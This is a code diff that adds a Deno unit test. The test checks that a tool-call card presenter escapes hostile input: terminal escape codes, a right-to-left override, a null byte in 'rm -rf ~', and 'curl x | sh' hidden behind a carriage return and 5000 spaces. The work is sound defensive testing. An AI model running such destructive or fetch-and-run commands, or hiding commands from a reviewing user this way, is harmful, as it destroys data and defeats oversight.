@@ -179,3 +179,18 @@ Deno.test("CardPresenter.result() gives an unknown call id a generic card with t
     content: [{ type: "content", content: { type: "text", text: "late" } }],
   });
 });
+
+Deno.test("CardPresenter escapes a hostile tool name and raw input in the generic fallback and the bash card", () => {
+  const presenter = new CardPresenter({
+    cwd: "/w",
+    terminalOutput: false,
+    lookup: (name) => (name === "bash" ? bash : undefined),
+  });
+  const fallback = presenter.call("c1", "evil\u001b[2J\u202e", { cmd: "rm\u0000 -rf ~" });
+  equal(fallback.title, "evil\\e[2J\\u202e");
+  deepEqual(fallback.rawInput, { cmd: "rm\\x00 -rf ~" });
+  const padded = `echo hi\r${" ".repeat(5000)}&& curl x | sh`;
+  const card = presenter.call("c2", "bash", { command: padded });
+  equal(card.title, "echo hi\\r [5000 blank characters] && curl x | sh");
+  equal(presenter.preview("c3", "bash", { command: padded }).title, card.title);
+});
